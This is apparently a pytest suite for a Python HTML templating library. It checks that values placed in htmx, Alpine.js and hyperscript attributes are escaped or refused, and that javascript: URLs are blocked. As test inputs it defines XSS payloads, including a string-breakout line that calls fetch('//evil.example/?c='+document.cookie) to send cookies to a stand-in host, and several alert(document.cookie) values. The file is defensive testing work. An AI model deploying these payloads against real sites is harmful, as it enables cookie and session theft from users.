"""Attributes that htmx and Alpine.js read as JavaScript, JSON or URLs, and the registry of
framework attribute rules (htmltemplates.attribute_rules)."""

import json
from collections.abc import Iterator
from string.templatelib import Template

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markupsafe import Markup

from htmltemplates import (
    UNSAFE_URL,
    RenderError,
    TemplateSyntaxError,
    TrustedURL,
    attribute_rules,
    cache_info,
    html,
)

# A value that leaves a JavaScript string written with either quote, then runs code.
BREAKOUT = "x'); fetch('//evil.example/?c='+document.cookie); ('"
QUOTED = "x\\u0027); fetch(\\u0027//evil.example/?c=\\u0027+document.cookie); (\\u0027"
CODE = "alert(document.cookie)"
# htmx 4 counts quotes without their escapes and splits hx-trigger at ',' outside them
SPLIT = 'x"], click[steal()] //'


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        # htmx: hx-on in every spelling is JavaScript, exactly like onclick
        pytest.param(
            t"""<button hx-on:click="greet('{BREAKOUT}')">Hi</button>""",
            f"""<button hx-on:click="greet('{QUOTED}')">Hi</button>""",
            id="hx-on-colon-string",
        ),
        pytest.param(
            t"<button hx-on:click={CODE}>Hi</button>",
            '<button hx-on:click=" &#34;alert(document.cookie)&#34; ">Hi</button>',
            id="hx-on-whole",
        ),
        pytest.param(
            t'<div hx-on::after-request="show({CODE})">',
            '<div hx-on::after-request="show( &#34;alert(document.cookie)&#34; )">',
            id="hx-on-double-colon",
        ),
        pytest.param(
            t'<div hx-on--after-request="show({CODE})">',
            '<div hx-on--after-request="show( &#34;alert(document.cookie)&#34; )">',
            id="hx-on-dashes",
        ),
        pytest.param(
            t'<div hx-on-click="show({CODE})">',
            '<div hx-on-click="show( &#34;alert(document.cookie)&#34; )">',
            id="hx-on-dash",
        ),
        pytest.param(
            t'<dialog hx-on="load -> show({CODE})">',
            '<dialog hx-on="load -> show( &#34;alert(document.cookie)&#34; )">',
            id="hx-on-htmx4-arrow",
        ),
        pytest.param(
            t'<div data-hx-on:click="show({CODE})">',
            '<div data-hx-on:click="show( &#34;alert(document.cookie)&#34; )">',
            id="data-hx-on",
        ),
        pytest.param(
            t'<div HX-ON:CLICK="show({CODE})">',
            '<div HX-ON:CLICK="show( &#34;alert(document.cookie)&#34; )">',
            id="hx-on-upper-case",
        ),
        pytest.param(
            t'<div hx-vars="a: {CODE}">',
            '<div hx-vars="a:  &#34;alert(document.cookie)&#34; ">',
            id="hx-vars",
        ),
        # hx-trigger: filters are JavaScript, the rest is text without brackets
        pytest.param(
            t'<div hx-trigger="click[ctrlKey && {CODE}] from:{"body"}">',
            '<div hx-trigger="click[ctrlKey &&  &#34;alert\\u0028document.cookie\\u0029&#34; ]'
            ' from:body">',
            id="hx-trigger-filter",
        ),
        pytest.param(
            t"<div hx-trigger=\"keyup[key == '{BREAKOUT}']\">",
            "<div hx-trigger=\"keyup[key == 'x\\u0027\\u0029\\u003b fetch\\u0028\\u0027"
            "\\u002f\\u002fevil.example\\u002f\\u003fc\\u003d\\u0027+document.cookie"
            "\\u0029\\u003b \\u0028\\u0027']\">",
            id="hx-trigger-filter-string",
        ),
        pytest.param(
            t'<div hx-trigger="click[f({SPLIT})]">',
            '<div hx-trigger="click[f( &#34;x\\u0022\\u005d\\u002c click\\u005bsteal'
            '\\u0028\\u0029\\u005d \\u002f\\u002f&#34; )]">',
            id="hx-trigger-filter-htmx4-split",
        ),
        pytest.param(
            t'<div hx-trigger="click[a == {3} && b == {None} && c == {True}]">',
            '<div hx-trigger="click[a ==  3  && b ==  null  && c ==  true ]">',
            id="hx-trigger-filter-scalars",
        ),
        pytest.param(
            t'<div hx-trigger="click[a[0]] delay:{500}ms">',
            '<div hx-trigger="click[a[0]] delay:500ms">',
            id="hx-trigger-after-nested-brackets",
        ),
        pytest.param(
            t'<div hx-trigger="click&#91;a == {CODE}&#93;">',
            '<div hx-trigger="click&#91;a ==  &#34;alert\\u0028document.cookie\\u0029&#34; &#93;">',
            id="hx-trigger-filter-by-reference",
        ),
        pytest.param(
            t"<div hx-trigger={'every 2s'}>",
            '<div hx-trigger="every 2s">',
            id="hx-trigger-whole",
        ),
        # JSON attributes
        pytest.param(
            t"<div hx-vals={ {'id': 3, 'name': BREAKOUT} }>",
            f'<div hx-vals="{{&#34;id&#34;: 3, &#34;name&#34;: &#34;{QUOTED}&#34;}}">',
            id="hx-vals-dict",
        ),
        pytest.param(
            t'<div hx-headers=\'{{"X-Name": "{BREAKOUT}"}}\'>',
            f'<div hx-headers=\'{{"X-Name": "{QUOTED}"}}\'>',
            id="hx-headers-string-in-json",
        ),
        pytest.param(
            t"<div hx-vals='{{\"id\": {3}}}'>",
            "<div hx-vals='{\"id\":  3 }'>",
            id="hx-vals-value-in-json",
        ),
        pytest.param(
            t"<div hx-vals='js:{{name: {BREAKOUT}}}'>",
            f"<div hx-vals='js:{{name:  &#34;{QUOTED}&#34; }}'>",
            id="hx-vals-js-prefix",
        ),
        pytest.param(
            t"<div hx-vals:append={[1, 2]}>",
            '<div hx-vals:append="[1, 2]">',
            id="hx-vals-htmx4-modifier",
        ),
        pytest.param(t"<div hx-vals={None}>", "<div>", id="hx-vals-none"),
        # hx-confirm: text, unless it starts with js:
        pytest.param(
            t'<button hx-confirm="Delete {BREAKOUT}?">',
            '<button hx-confirm="Delete x&#39;); fetch(&#39;//evil.example/?c=&#39;'
            '+document.cookie); (&#39;?">',
            id="hx-confirm-text",
        ),
        pytest.param(
            t'<button hx-confirm="js:ask({BREAKOUT})">',
            f'<button hx-confirm="js:ask( &#34;{QUOTED}&#34; )">',
            id="hx-confirm-js",
        ),
        pytest.param(
            t"<button hx-confirm={'Sure?'}>",
            '<button hx-confirm="Sure?">',
            id="hx-confirm-whole",
        ),
        pytest.param(
            t'<button hx-confirm="{"j"}ava: {"s"}">',
            '<button hx-confirm="java: s">',
            id="hx-confirm-settled-start",
        ),
        # URLs
        pytest.param(
            t"<button hx-get={'javascript:alert(1)'}>",
            f'<button hx-get="{UNSAFE_URL}">',
            id="hx-get-scheme",
        ),
        pytest.param(
            t"<button hx-get={'js:steal()'} hx-query={'javascript:steal()'}>",
            f'<button hx-get="{UNSAFE_URL}" hx-query="{UNSAFE_URL}">',
            id="htmx4-js-request-url",
        ),
        pytest.param(
            t'<button hx-post="/items/{"a b/c?d"}">',
            '<button hx-post="/items/a%20b/c%3Fd">',
            id="hx-post-path",
        ),
        pytest.param(
            t'<button data-hx-delete="/items?q={"a&b"}">',
            '<button data-hx-delete="/items?q=a%26b">',
            id="data-hx-delete-query",
        ),
        pytest.param(
            t"<form hx-action={'vbscript:x'} hx-push-url={True}>",
            f'<form hx-action="{UNSAFE_URL}" hx-push-url>',
            id="hx-action-push-url",
        ),
        pytest.param(
            t"<div hx-ext=sse sse-connect={'javascript:x'}>",
            f'<div hx-ext=sse sse-connect="{UNSAFE_URL}">',
            id="sse-connect",
        ),
        # Alpine: expressions
        pytest.param(
            t"<div x-data={ {'open': False, 'label': '<b>&'} }>",
            '<div x-data=" {&#34;open&#34;: false, &#34;label&#34;: &#34;\\u003cb\\u003e\\u0026'
            '&#34;} ">',
            id="x-data-dict",
        ),
        pytest.param(
            t'<button @click="count += {CODE}">',
            '<button @click="count +=  &#34;alert(document.cookie)&#34; ">',
            id="at-click",
        ),
        pytest.param(
            t"<button x-on:click.prevent=\"say('{BREAKOUT}')\">",
            f"<button x-on:click.prevent=\"say('{QUOTED}')\">",
            id="x-on-modifier",
        ),
        pytest.param(
            t'<template x-for="item in {["a", "b"]}">',
            '<template x-for="item in  [&#34;a&#34;, &#34;b&#34;] ">',
            id="x-for",
        ),
        pytest.param(
            t"<span x-text={BREAKOUT}>",
            f'<span x-text=" &#34;{QUOTED}&#34; ">',
            id="x-text",
        ),
        pytest.param(
            t'<div x-data="{{ name: {CODE}, init() {{ this.ready = true }} }}">',
            '<div x-data="{ name:  &#34;alert(document.cookie)&#34; , init() { this.ready = true }'
            ' }">',
            id="x-data-object-in-template",
        ),
        pytest.param(t"<div x-data={True}>", "<div x-data>", id="x-data-bare"),
        pytest.param(
            t"<div x-init={CODE} x-show={True} x-effect={None}>",
            '<div x-init=" &#34;alert(document.cookie)&#34; " x-show>',
            id="x-init-show-effect",
        ),
        pytest.param(
            t"<div x-intersect.once={CODE} x-trap={False} x-mask:dynamic={CODE}>",
            '<div x-intersect.once=" &#34;alert(document.cookie)&#34; " x-mask:dynamic='
            '" &#34;alert(document.cookie)&#34; ">',
            id="plugins",
        ),
        pytest.param(
            t"<div x-unknown-directive={CODE}>",
            '<div x-unknown-directive=" &#34;alert(document.cookie)&#34; ">',
            id="x-unknown-fails-closed",
        ),
        # Alpine: text
        pytest.param(
            t"<div x-ref={CODE} x-transition:enter={'ease-out duration-300'} x-mask={'99/99'}>",
            '<div x-ref="alert(document.cookie)" x-transition:enter="ease-out duration-300"'
            ' x-mask="99/99">',
            id="alpine-text",
        ),
        pytest.param(
            t"<template x-teleport={'body'}><div x-sort:group={'todos'}></div></template>",
            '<template x-teleport="body"><div x-sort:group="todos"></div></template>',
            id="alpine-selectors-and-names",
        ),
        # bindings: JavaScript, and a URL attribute's values scheme-filtered
        pytest.param(
            t"<a :href={'javascript:alert(1)'} x-bind:title={CODE}>",
            f'<a :href=" &#34;{UNSAFE_URL}&#34; " x-bind:title=" &#34;alert(document.cookie)'
            '&#34; ">',
            id="bind-url-and-text",
        ),
        pytest.param(
            t"<a :href=\"'/u/' + '{'javascript:alert(1)'}'\">",
            f"<a :href=\"'/u/' + '{UNSAFE_URL}'\">",
            id="bind-url-in-string",
        ),
        pytest.param(
            t"<img :src={TrustedURL('data:image/png;base64,AAAA')} :class={ {'on': True} }>",
            '<img :src=" &#34;data:image/png;base64,AAAA&#34; " :class=" {&#34;on&#34;: true} ">',
            id="bind-trusted-url-and-class",
        ),
        pytest.param(
            t"<a :href={'/items/7'} :tabindex={3}>",
            '<a :href=" &#34;/items/7&#34; " :tabindex=" 3 ">',
            id="bind-relative-url-and-number",
        ),
        # x-html: trusted HTML only, as a JavaScript string
        pytest.param(
            t"<div x-html={Markup('<b>ok</b>')}>",
            '<div x-html=" &#34;\\u003cb\\u003eok\\u003c/b\\u003e&#34; ">',
            id="x-html-markup",
        ),
        pytest.param(
            t"<div x-html={t'<i>{BREAKOUT}</i>'}>",
            '<div x-html=" &#34;\\u003ci\\u003ex\\u0026#39;); fetch(\\u0026#39;//evil.example/'
            '?c=\\u0026#39;+document.cookie); (\\u0026#39;\\u003c/i\\u003e&#34; ">',
            id="x-html-template",
        ),
        pytest.param(t"<div x-html={None}>", "<div>", id="x-html-none"),
        # attributes merged with a spread keep their rules
        pytest.param(
            t"<button hx-on:click={CODE} { ({'class': 'b'}) } class=a>",
            '<button hx-on:click=" &#34;alert(document.cookie)&#34; " class="b a">',
            id="merged-tag",
        ),
        pytest.param(
            t"<a :href={'javascript:x'} { ({'id': 'y'}) }>",
            f'<a :href=" &#34;{UNSAFE_URL}&#34; " id="y">',
            id="spread-tag",
        ),
        pytest.param(
            t"<p class=a { ({'hx-vals': {'id': 1}, 'hx-get': 'javascript:x'}) } class=b>",
            f'<p class="a b" hx-vals="{{&#34;id&#34;: 1}}" hx-get="{UNSAFE_URL}">',
            id="spread-json-and-url-merged",
        ),
        pytest.param(
            t"<p { ({'hx-trigger': 'load', 'x-ref': 'box', 'x-cloak': True}) }>",
            '<p hx-trigger="load" x-ref="box" x-cloak>',
            id="spread-text-kinds",
        ),
    ],
)
def test_framework_attributes(template: Template, expected: str) -> None:
    assert expected == html(template)


@pytest.mark.parametrize(
    ("template", "anchor"),
    [
        pytest.param(t'<div hx-on:click="go(/{CODE}/)">', "event-handler", id="hx-on-regex"),
        pytest.param(t'<div @click="go() // {CODE}">', "event-handler", id="alpine-comment"),
        pytest.param(t"<div x-html='<b>{CODE}</b>'>", "html-attribute", id="x-html-parts"),
        pytest.param(t"<a :onclick={CODE}>", "refused-attribute", id="bind-event"),
        pytest.param(t"<a x-bind:onclick={CODE}>", "refused-attribute", id="x-bind-event"),
        pytest.param(t"<iframe :srcdoc={CODE}></iframe>", "refused-attribute", id="bind-srcdoc"),
        pytest.param(t"<a :hx-vals={CODE}>", "refused-attribute", id="bind-json"),
        pytest.param(t"<p _='on click {CODE}'>", "refused-attribute", id="hyperscript"),
        pytest.param(t"<p x-bind={ {'@click': CODE} }>", "refused-attribute", id="x-bind-object"),
        pytest.param(t"<p x-bind='{CODE}'>", "refused-attribute", id="x-bind-part"),
        pytest.param(t"<p hx-vals='{{\"a\": `{CODE}`}}'>", "event-handler", id="json-template"),
        pytest.param(
            t'<div hx-trigger="click[a && /{CODE}/]">', "event-handler", id="trigger-filter-regex"
        ),
        pytest.param(t'<b hx-confirm="  {CODE}{CODE}">', "js-prefix", id="confirm-side-by-side"),
        pytest.param(t'<b hx-on:click="f(&{CODE})">', "reference", id="hx-on-reference"),
    ],
)
def test_framework_positions_refused(template: Template, anchor: str) -> None:
    with pytest.raises(TemplateSyntaxError) as info:
        html(template)
    assert anchor == info.value.anchor


@pytest.mark.parametrize(
    ("template", "anchor"),
    [
        pytest.param(t"<p { {'hx-on:click': CODE} }>", "spread-name", id="spread-hx-on"),
        pytest.param(t"<p { {'x-data': {}} }>", "spread-name", id="spread-x-data"),
        pytest.param(t"<p { {'@click': CODE} }>", "spread-name", id="spread-at"),
        pytest.param(t"<p { {':href': '/x'} }>", "spread-name", id="spread-bind"),
        pytest.param(t"<p { {'x-html': Markup('<b>')} }>", "spread-name", id="spread-x-html"),
        pytest.param(t"<p { {'hx-vals': 'js:x()'} }>", "json-attribute", id="spread-hx-vals-str"),
        pytest.param(t"<p hx-vals={'{"a": 1}'}>", "json-attribute", id="hx-vals-str"),
        pytest.param(t"<p hx-headers={3}>", "json-attribute", id="hx-headers-number"),
        pytest.param(t"<p hx-trigger={'click[x()]'}>", "htmx-trigger", id="trigger-whole"),
        pytest.param(t'<p hx-trigger="click[f({[1, "("]})]">', "htmx-trigger", id="filter-list"),
        pytest.param(t'<p hx-trigger="click[f({ {"a": 1} })]">', "htmx-trigger", id="filter-dict"),
        pytest.param(t'<p hx-trigger="load, {"c[x()]"}">', "htmx-trigger", id="trigger-part"),
        pytest.param(t"<p hx-confirm={' \ufeffJavaScript:x()'}>", "js-prefix", id="confirm-js"),
        pytest.param(t'<p hx-confirm="  {"js"}:x()">', "js-prefix", id="confirm-completed"),
        pytest.param(t'<p hx-confirm="j{"s:x()"}">', "js-prefix", id="confirm-from-j"),
        pytest.param(t'<p hx-confirm="{" "} {"js:x()"}">', "js-prefix", id="confirm-unsettled"),
        pytest.param(t"<p { {'hx-confirm': 'js:x()'} }>", "js-prefix", id="spread-confirm"),
        pytest.param(t"<div x-html={'<b>hi</b>'}>", "html-attribute", id="x-html-str"),
        pytest.param(t"<a :href={['javascript:x']}>", "bound-url", id="bind-url-list"),
        pytest.param(t"<p x-data={ {'init': CODE} }>", "alpine-data", id="x-data-init"),
        pytest.param(
            t"<p x-data={ {'a': [{'destroy': CODE}]} }>", "alpine-data", id="x-data-deep-destroy"
        ),
        pytest.param(
            t'<p x-data="{{ ...{ {"init": CODE} } }}">', "alpine-data", id="x-data-spread-init"
        ),
        pytest.param(t"<p x-data={'open: true'}>", "alpine-data", id="x-data-str"),
        pytest.param(t"<p x-data={42}>", "alpine-data", id="x-data-number"),
        pytest.param(t"<p data={ {'hx-on:click': CODE} }>", "spread-name", id="data-dict"),
    ],
)
def test_framework_values_refused(template: Template, anchor: str) -> None:
    with pytest.raises(RenderError) as info:
        html(template)
    assert anchor == info.value.anchor


# -- the registry ----------------------------------------------------------------------------


@pytest.fixture
def rules() -> Iterator[None]:
    """Restore the default rules after a test that changes them."""
    saved = {name: (attribute_rules.rules(name), on) for name, on in attribute_rules.sets().items()}
    try:
        yield
    finally:
        for name in attribute_rules.sets():
            if name not in saved:
                attribute_rules.remove(name)
        for name, (table, on) in saved.items():
            attribute_rules.add(name, table, enabled=on)


def test_default_sets() -> None:
    assert {"htmx": True, "alpine": True, "hyperscript": True} == attribute_rules.sets()
    assert "javascript" == attribute_rules.context("HX-ON:click")
    assert "json" == attribute_rules.context("data-hx-vals")
    assert "text" == attribute_rules.context("x-ref")
    assert "bind" == attribute_rules.context(":href")
    assert attribute_rules.context("title") is None


@pytest.mark.usefixtures("rules")
def test_a_user_set_vue() -> None:
    attribute_rules.add(
        "vue", {"v-on:*": "javascript", "v-bind:*": "bind", "v-html": "html", "v-*": "javascript"}
    )
    assert html(t"<a v-bind:href={'javascript:x'} v-if={CODE}>") == (
        f'<a v-bind:href=" &#34;{UNSAFE_URL}&#34; " v-if=" &#34;alert(document.cookie)&#34; ">'
    )
    with pytest.raises(RenderError) as info:
        html(t"<div v-html={'<b>'}>")
    assert "html-attribute" == info.value.anchor


@pytest.mark.usefixtures("rules")
def test_disabling_a_set_makes_its_attributes_text_again_and_drops_plans() -> None:
    template = t"<div x-show={'a'} { {'x-init': 'b'} }>"
    assert '<div x-show=" &#34;a&#34; ">' == html(t"<div x-show={'a'}>")
    with pytest.raises(RenderError):
        html(template)
    attribute_rules.disable("alpine")
    assert 0 == cache_info().size
    assert '<div x-show="a" x-init="b">' == html(template)
    attribute_rules.enable("alpine")
    assert '<div x-show=" &#34;a&#34; ">' == html(t"<div x-show={'a'}>")


@pytest.mark.usefixtures("rules")
def test_the_strictest_context_wins_across_sets() -> None:
    attribute_rules.add("mine", {"x-ref": "javascript", "hx-get": "text"})
    assert "javascript" == attribute_rules.context("x-ref")
    assert "url" == attribute_rules.context("hx-get")  # a set cannot weaken another
    assert f'<a hx-get="{UNSAFE_URL}">' == html(t"<a hx-get={'javascript:x'}>")


@pytest.mark.usefixtures("rules")
def test_rules_cannot_weaken_html() -> None:
    attribute_rules.add("weak", {"onclick": "text", "href": "text", "style": "text"})
    assert f'<a href="{UNSAFE_URL}">' == html(t"<a href={'javascript:x'}>")
    assert '<a onclick=" &#34;x&#34; ">' == html(t"<a onclick={'x'}>")


@pytest.mark.usefixtures("rules")
def test_within_a_set_the_most_specific_pattern_wins() -> None:
    attribute_rules.add("mine", {"my-*": "javascript", "my-label": "text", "my-x*": "url"})
    assert "text" == attribute_rules.context("my-label")
    assert "url" == attribute_rules.context("my-xy")
    assert "javascript" == attribute_rules.context("my-other")


@pytest.mark.parametrize(
    ("rules_", "message"),
    [
        pytest.param(
            {"x": "js"},
            "'js' is not an attribute context; use one of: javascript, x-data, bind, html, json, "
            "js-prefixed, htmx-trigger, url, resource-url, text, refused",
            id="context",
        ),
        pytest.param(
            {"a*b": "text"},
            "'a*b' is not an attribute pattern: write a name (x-text) or a prefix ending in "
            "'*' (x-on:*)",
            id="pattern",
        ),
    ],
)
def test_bad_rules(rules_: dict[str, str], message: str) -> None:
    with pytest.raises(ValueError, match="is not an attribute") as info:
        attribute_rules.add("bad", rules_)
    assert message == str(info.value)
    assert "bad" not in attribute_rules.sets()


def test_unknown_set() -> None:
    with pytest.raises(KeyError) as info:
        attribute_rules.disable("vue")
    assert "\"no attribute rule set 'vue'; there are: htmx, alpine, hyperscript\"" == str(
        info.value
    )


# -- properties: judged by html5lib, a spec-compliant parser --------------------------------


def _attributes(markup: str) -> dict[str, str]:
    """The attributes of the one element in ``markup``, as a browser would decode them."""
    (element,) = html5lib.parseFragment(markup, namespaceHTMLElements=False)
    return dict(element.attrib)


@given(st.text())
@example("x'); steal(); ('")
@example('"&quot;</script>`${x}`')
def test_a_value_in_framework_javascript_is_one_json_literal(text: str) -> None:
    markup = html(t'<b @click="f({text})" hx-on:click="g(\'{text}\')" x-data={ {"t": text} }>')
    attributes = _attributes(markup)
    assert ["@click", "hx-on:click", "x-data"] == list(attributes)
    click = attributes["@click"]
    assert ("f(", ")") == (click[:2], click[-1:])
    assert text == json.loads(click[2:-1])
    handler = attributes["hx-on:click"]
    assert ("g('", "')") == (handler[:3], handler[-2:])
    inner = handler[3:-2]
    assert ("'" not in inner, '"' not in inner) == (True, True)
    assert text == json.loads('"' + inner + '"')
    assert {"t": text} == json.loads(attributes["x-data"])


@pytest.mark.usefixtures("rules")
def test_a_data_dict_entry_follows_rules_added_after_it_was_rendered() -> None:
    # the names of data/aria entries are remembered with their kind: a new rule forgets them
    values = {"link": "javascript:alert(1)"}
    assert '<p data-link="javascript:alert(1)">' == html(t"<p data={values}>")
    attribute_rules.add("mine", {"data-link": "url"})
    assert f'<p data-link="{UNSAFE_URL}">' == html(t"<p data={values}>")


@pytest.mark.usefixtures("rules")
def test_a_spread_follows_rules_added_after_it_was_rendered() -> None:
    # a tag's plan remembers the kinds of the names its spreads gave: a new rule forgets them
    values = {"data-link": "javascript:alert(1)", "title": "t"}
    for _ in range(2):  # the first render validates the names, the second remembers them
        assert '<p data-link="javascript:alert(1)" title="t">' == html(t"<p {values}>")
    attribute_rules.add("mine", {"data-link": "url"})
    assert f'<p data-link="{UNSAFE_URL}" title="t">' == html(t"<p {values}>")
